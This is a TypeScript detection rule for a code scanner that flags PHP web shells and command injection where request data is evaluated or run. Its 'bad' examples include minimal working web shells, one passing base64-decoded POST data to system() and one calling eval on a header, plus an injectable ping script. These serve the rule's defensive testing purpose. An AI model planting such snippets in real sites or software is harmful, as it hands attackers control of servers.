import { defineRule } from '../../rule.ts';
import { otherUseHits } from './otherUseHits.ts';

export const webShell = defineRule({
  id: 'web-shell',
  title: 'Visitors of the site can run commands or code',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-94',
  references: ['https://attack.mitre.org/techniques/T1505/003/', 'https://cwe.mitre.org/data/definitions/78.html'],
  why: 'What a request carries is run on the server. Whoever knows the address has the machine, whether somebody left that door on purpose or by mistake.',
  remedy:
    'Remove it. Where a program has to be started, fix its name, and hand over what visitors send as separate, checked arguments.',
  check: (facts) =>
    otherUseHits(facts, ['request'], ['evaluates', 'runs'], ({ use, first }) =>
      use === 'evaluates' || first ? {} : { severity: 'high', confidence: 'medium' },
    ),
  examples: {
    bad: [
      { files: { 'a.php': "<?php\nif (isset($_POST['c'])) {\n  system(base64_decode($_POST['c']));\n}\n" } },
      { files: { 'a.php': "<?php\n$c = $_SERVER['HTTP_X_TASK'];\neval(substr($c, 8));\n" } },
      { files: { 'ping.php': '<?php\n$host = $_GET["host"];\necho shell_exec("ping -c 1 " . $host);\n' } },
    ],
    good: [
      { files: { 'ping.php': '<?php\n$host = $_GET["host"];\necho htmlspecialchars($host);\nsystem("uptime");\n' } },
      {
        files: {
          'ping.php': '<?php\n$host = escapeshellarg($_GET["host"]);\necho shell_exec("ping -c 1 " . $host);\n',
        },
      },
      { files: { 'page.php': '<?php\n$n = (int) $_GET["n"];\necho shell_exec("tail -n " . $n . " log");\n' } },
      { files: { 'a.php': "<?php\n$this->db->exec($_POST['q']);\n$page->eval($_GET['x']);\n" } },
    ],
  },
});
